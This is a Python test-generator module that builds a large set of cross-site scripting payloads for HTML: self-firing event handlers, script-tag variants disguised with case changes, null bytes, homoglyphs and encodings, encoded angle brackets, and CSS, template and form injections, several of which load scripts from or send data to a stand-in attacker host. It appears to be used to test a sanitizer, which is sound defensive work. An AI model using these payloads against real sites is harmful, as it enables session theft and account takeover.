"""What of HTML can carry code: event handlers, scripts, styles, forms, templates; and the brackets that make it HTML."""

import itertools
from collections.abc import Iterable, Iterator
from typing import TypeVar

from tests.notices.hostile.spelling import CASES, CODES, ENDINGS, EVIL, QUOTES, SEPARATORS, Maker, Pattern, base64_of, letters

T = TypeVar("T")


def turning(values: Iterable[T], step: int = 1) -> Iterator[T]:
    """One after the other without end, so that every pairing with another list comes up sooner or later."""
    return itertools.islice(itertools.cycle(values), 0, None, step)


# --- event handlers ------------------------------------------------------------------------------------------------------

# Tag with what it needs so that the event comes by itself; the event; what closes it.
BY_THEMSELVES = (
    ("img src=x", "onerror", ""),
    ("img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=", "onload", ""),
    ("image src=x", "onerror", ""),
    ("svg", "onload", "</svg>"),
    ("svg><image href=x", "onerror", "</svg>"),
    ("svg><animate attributeName=x dur=1s", "onbegin", "</svg>"),
    ("svg><set attributeName=x dur=1s", "onbegin", "</svg>"),
    ("svg><a autofocus tabindex=0", "onfocusin", "</svg>"),
    ("body", "onload", ""),
    ("body", "onpageshow", ""),
    ("frameset", "onload", ""),
    ("iframe", "onload", "</iframe>"),
    ("object data=x", "onerror", "</object>"),
    ("embed src=x", "onload", ""),
    ("video src=x", "onerror", "</video>"),
    ("video><source", "onerror", "</video>"),
    ("audio src=x", "onerror", "</audio>"),
    ("details open", "ontoggle", "x</details>"),
    ("input autofocus", "onfocus", ""),
    ("input type=image src=x", "onerror", ""),
    ("select autofocus", "onfocus", "</select>"),
    ("textarea autofocus", "onfocus", "</textarea>"),
    ("button autofocus", "onfocus", "x</button>"),
    ("keygen autofocus", "onfocus", ""),
    ("marquee loop=1 width=0", "onfinish", "x</marquee>"),
    ("marquee", "onstart", "x</marquee>"),
    ("link rel=stylesheet href=x", "onerror", ""),
    ("script src=x", "onerror", "</script>"),
    ("style", "onload", "@x{}</style>"),
    ("x-y tabindex=0 autofocus", "onfocus", "x</x-y>"),
    ("p contenteditable autofocus", "onfocus", "x</p>"),
    ("math><mi tabindex=0 autofocus", "onfocus", "x</math>"),
    ("style>@keyframes k{to{left:0}}</style><b style=animation:k", "onanimationstart", "x</b>"),
    ("b style=content-visibility:auto", "oncontentvisibilityautostatechange", "x</b>"),
)
PROVOKED = (
    "onclick", "ondblclick", "onmouseover", "onmouseenter", "onmousemove", "onmousedown", "onpointerover", "onpointerdown", "onfocus",
    "onfocusin", "onblur", "onkeydown", "onwheel", "oncopy", "ondragstart", "oncontextmenu", "oninput", "onbeforeinput", "ontoggle",
    "onauxclick", "onselectstart", "ontouchstart", "onscroll", "ontransitionend", "onpaste", "onsearch", "oninvalid",
)  # fmt: skip
ON_ANYTHING = ("a href=#", "b", "p", "td", "li", "h2", "abbr", "xss", "svg", "math", "form", "details", "table", "blockquote", "section")


def handlers() -> Iterator[Pattern]:
    ways = zip(turning(SEPARATORS), turning(QUOTES, 3), turning(CASES, 5), turning(CODES.values(), 11), turning(ENDINGS, 2), strict=False)
    provoked = [(tag, event, "x") for event, tag in zip(PROVOKED, turning(ON_ANYTHING), strict=False)]
    for _ in range(4):
        for carrier in (*BY_THEMSELVES, *provoked):
            yield _handler(carrier, next(ways))


def _handler(carrier: tuple[str, str, str], way: tuple[str, str, Maker, Maker, str]) -> Maker:
    (tag, event, close), (separator, quote, case, spelled, ending) = carrier, way
    name, space, attributes = tag.partition(" ")
    opened = f"<{case(name)}{space and separator}{attributes}{separator}{case(event)}={quote}"
    # Without quotes a slash would belong to the code.
    ending = ending if quote else " >"
    return lambda code: f"{opened}{spelled(code)}{quote}{ending}{close}"


# --- scripts -------------------------------------------------------------------------------------------------------------

SCRIPTS: tuple[Pattern, ...] = (
    "<script>§</script>",
    "<SCRIPT>§</SCRIPT>",
    "<ScRiPt>§</sCrIpT>",
    "<script/x>§</script/y>",
    "<script\n>§</script\n>",
    "<script\x0cx>§</script>",
    "<script>§",
    "<script>§//<!--",
    "<<script>§//<</script>",
    "<scr<script>ipt>§</scr</script>ipt>",
    "<script type=module>§</script>",
    "<script type='text/javascript' defer>§</script>",
    "<script nonce=x src='data:text/javascript,§'></script>",
    lambda code: f"<script src=data:;base64,{base64_of(code)}></script>",
    f"<script src={EVIL}/§.js></script>",
    "<script src=//evil.example/§></script>",
    "<script>/*</script><script>*/§//</script>",
    "<script><!--\n§\n--></script>",
    lambda code: f"<svg><script>{letters(code, '&#{};')}</script></svg>",
    "<svg><script>/<a>/;§</script></svg>",
    "<svg><script href='data:,§' /></svg>",
    "<svg><script xlink:href=data:,§></script></svg>",
    "<math><script>§</script></math>",
    "</title></style></textarea></script><script>§</script>",
    "</p></section></main></div></body></html><script>§</script>",
    "<template shadowrootmode=open><script>§</script></template>",
    "<iframe srcdoc='<script>top.§</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;top.§&lt;/script&gt;></iframe>",
    "<object data='data:text/html,<script>top.§</script>'></object>",
    f"<base href='{EVIL}/'><script src=/§></script>",
    "<meta http-equiv=refresh content='0;url=javascript:§'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/§'>",
    f"<link rel=preload as=script href={EVIL}/§>",
    f"<link rel=import href={EVIL}/§>",
    "<ſcript>§</ſcript>",
    "<scrıpt>§</scrıpt>",
    "<sc\u200bript>§</sc\u200bript>",
    "<script>\u2028§\u2029</script>",
    "<\x00script>§</script>",
    "<s\x00cript>§</s\x00cript>",
    "\ufeff<script>§</script>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>§</x:script>",
    "<!DOCTYPE x [<!ENTITY e '<script>§</script>'>]>&e;",
)

# --- the brackets themselves ---------------------------------------------------------------------------------------------

BRACKETS = (
    ("&lt;", "&gt;"), ("&#60;", "&#62;"), ("&#x3c;", "&#x3e;"), ("&#x3C", "&#x3E"), ("&#0000060", "&#0000062"), ("&LT;", "&GT;"),
    ("&lt", "&gt"), ("&amp;lt;", "&amp;gt;"), ("&amp;amp;lt;", "&amp;amp;gt;"), ("\\<", "\\>"), ("\\\\<", "\\\\>"), ("%3C", "%3E"),
    ("\\u003c", "\\u003e"), ("\\x3c", "\\x3e"), ("\\74", "\\76"), ("＜", "＞"), ("﹤", "﹥"), ("‹", "›"), ("+ADw-", "+AD4-"), ("¼", "¾"),
    ("<\\", ">"), ("<\u200b", ">"), ("<\t", ">"), ("< ", ">"), ("<!", ">"), ("</", ">"), ("<?", "?>"), ("<%", "%>"),
    ("&lt;&#x200b;", "&gt;"),
)  # fmt: skip
# `[` and `]` stand for them.
INSIDE = ("[script]§[/script]", "[img src=x onerror=§]", "[svg/onload=§]", "[a href=javascript:§]x[/a]")


def brackets() -> Iterator[Pattern]:
    for (opened, closed), inside in zip(BRACKETS * 2, turning(INSIDE), strict=False):
        yield inside.replace("[", opened).replace("]", closed)


# --- where a style or a template would act -------------------------------------------------------------------------------

OTHERS: tuple[Pattern, ...] = (
    f"<style>@import '{EVIL}/§.css';</style>",
    f"<style>@import url({EVIL}/§);</style>",
    f"<style>body{{background:url('{EVIL}/§')}}</style>",
    "<style>body{background:url(javascript:§)}</style>",
    f"<b style='background:url({EVIL}/§)'>x</b>",
    '<b style="width:expression(§)">x</b>',
    f"<b style='-moz-binding:url({EVIL}/§)'>x</b>",
    f"<b style='behavior:url({EVIL}/§)'>x</b>",
    "<b style='position:fixed;inset:0;background:red' onmouseover=§>x</b>",
    f"<svg><style>*{{background-image:url({EVIL}/§)}}</style></svg>",
    f"<link rel=stylesheet href='data:text/css,*{{background:url({EVIL}/§)}}'>",
    f"<table background={EVIL}/§><td>x</table>",
    f"<video poster={EVIL}/§></video>",
    f"<img srcset='{EVIL}/§ 1x'>",
    "<img dynsrc=javascript:§ lowsrc=javascript:§>",
    f"<a ping={EVIL}/§ href=#>x</a>",
    "{{constructor.constructor('§')()}}",
    "{{ self.__init__.__globals__ }}{% import os %}§",
    "${§}`${§}`#{§}*{§}",
    "<%= § %><% § %><?php § ?>",
    "{{<script>§</script>}}",
    "{{controller.<img src=x onerror=§>}}",
    "[[§]]{{'<script>§</script>'|safe}}",
    "<x ng-app ng-csp ng-click=$event.view.§>x</x>",
    "<x data-bind=\"html:'<script>§</script>'\" v-html=\"'§'\" x-init=§ hx-on:load=§>x</x>",
    "<form id=location action=javascript:§><input name=href><input type=submit></form>",
    f"<a id=trap name=trap href='cid:§'>x</a><img name=getElementById src={EVIL}/§>",
    "<form><button formaction=javascript:§>x</button></form>",
    "<form><input type=submit formaction=javascript:§ value=x></form>",
    "<isindex type=image src=x onerror=§ action=javascript:§>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=§ />#x' /></svg>",
    "<svg><a><animate attributeName=href values=javascript:§ /><text x=20 y=20>x</text></a></svg>",
    "<svg><a xlink:href=javascript:§><text x=20 y=20>x</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:§>x</maction></math>",
    "<dialog open oncancel=§ onclose=§><form method=dialog><button autofocus>x</button></form></dialog>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=§>x</div>",
)
